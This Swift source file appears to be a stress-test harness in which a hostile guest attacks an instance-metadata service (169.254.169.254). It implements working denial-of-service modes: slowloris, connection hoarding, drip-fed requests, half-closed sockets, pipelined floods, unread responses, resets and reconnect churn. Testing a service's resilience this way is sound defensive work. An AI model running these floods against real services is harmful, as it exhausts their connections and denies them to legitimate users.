import Glibc

/// An attack: one thread, and as many sockets as it takes.
struct Attack {
  enum Mode: String {
    case slowloris
    case connections
    case pipeline
    case unread
    case drip
    case halfClosed = "half-closed"
    case reset
    case reconnect
  }

  /// Beyond any guest's share.
  private static let connectionsHeld = 400
  /// By so many the attack is under way.
  private static let connectionsToTell = 200

  let options: Options
  private(set) var opened = 0
  private var hasTold = false

  init(_ options: Options) { self.options = options }

  mutating func run() {
    switch options.mode {
    case .slowloris:
      let head = Array(HostileRequest.small.dropLast(2))
      hold(restSeconds: 0.5) { socket, step in
        socket.send(step == 0 ? head : Array("X: y\r\n".utf8)).then { socket.discardInput() }
      }
    case .connections: hold { socket, _ in socket.discardInput() }
    case .drip:
      let request = HostileRequest.small
      hold(restSeconds: 0.5) { socket, step in
        socket.send([request[step % request.count]]).then { socket.discardInput() }
      }
    case .halfClosed:
      hold(restSeconds: 0.05) { socket, step in
        step == 0
          ? socket.send(HostileRequest.small).then { socket.closeOutput() }
          : step < 50 ? .done : .over
      }
    case .pipeline:
      let flood = HostileRequest.repeated(HostileRequest.small, 500)
      tell()
      hold(count: 8, restSeconds: 0) { socket, _ in
        socket.send(flood).then { socket.discardInput() }
      }
    case .unread:
      let flood = HostileRequest.repeated(HostileRequest.large, 100)
      tell()
      hold(count: 100) { socket, _ in socket.send(flood) }
    case .reset: reset()
    case .reconnect: reconnect()
    }
  }

  mutating func tell() {
    guard !hasTold else { return }
    hasTold = true
    HostileGuest.say("attacking\n")
  }

  // MARK: Ways

  /// Keeps connections up, and does something on each in turn until that says that it is over.
  private mutating func hold(
    count: Int = connectionsHeld, restSeconds: Double = 0.001,
    each: (HostileSocket, Int) -> HostileSocket.Progress
  ) {
    var held: [(socket: HostileSocket, step: Int)] = []
    var turn = 0
    while !isDone {
      for _ in 0..<min(32, count - held.count) {
        if let socket = connect() { held.append((socket, 0)) }
      }
      var kept: [(socket: HostileSocket, step: Int)] = []
      for (socket, step) in held {
        turn += 1
        switch each(socket, step) {
        case .done: kept.append((socket, step + 1))
        case .wouldBlock: kept.append((socket, step))
        case .over: socket.close()
        }
        if turn % 64 == 0 { rest() }
      }
      held = kept
      if opened >= min(count, Attack.connectionsToTell) { tell() }
      rest(atLeast: restSeconds)
    }
  }

  private mutating func reset() {
    while !isDone {
      for step in 0..<64 {
        guard let socket = connect() else { continue }
        _ = socket.send(
          step % 2 == 0 ? Array(HostileRequest.small.prefix(20)) : HostileRequest.small)
        socket.reset()
      }
      tell()
      rest()
    }
  }

  private mutating func reconnect() {
    while !isDone {
      for _ in 0..<16 {
        guard let socket = connect() else { continue }
        socket.waitForAnswers(seconds: 5)
        _ = socket.send(HostileRequest.last).then { socket.discardInput() }
        socket.close()
        tell()
      }
      rest()
    }
  }

  // MARK: Parts

  private var isDone: Bool { options.total.map { opened >= $0 } ?? false }

  /// Nil where no port or descriptor is left, which is our own trouble.
  private mutating func connect() -> HostileSocket? {
    guard let socket = HostileSocket(to: options.port, from: options.source) else {
      usleep(10_000)
      return nil
    }
    opened += 1
    return socket
  }

  private func rest(atLeast seconds: Double = 0) {
    usleep(useconds_t(max(options.pauseSeconds, seconds) * 1e6))
  }
}

/// What is sent.
enum HostileRequest {
  static let small = request("/latest/meta-data/")
  static let large = request("/latest/user-data")
  static let last = request("/latest/meta-data/", more: "Connection: close\r\n")

  private static func request(_ path: String, more: String = "") -> [UInt8] {
    Array("GET \(path) HTTP/1.1\r\nHost: 169.254.169.254\r\n\(more)\r\n".utf8)
  }

  static func repeated(_ request: [UInt8], _ count: Int) -> [UInt8] {
    Array(repeatElement(request, count: count).joined())
  }
}
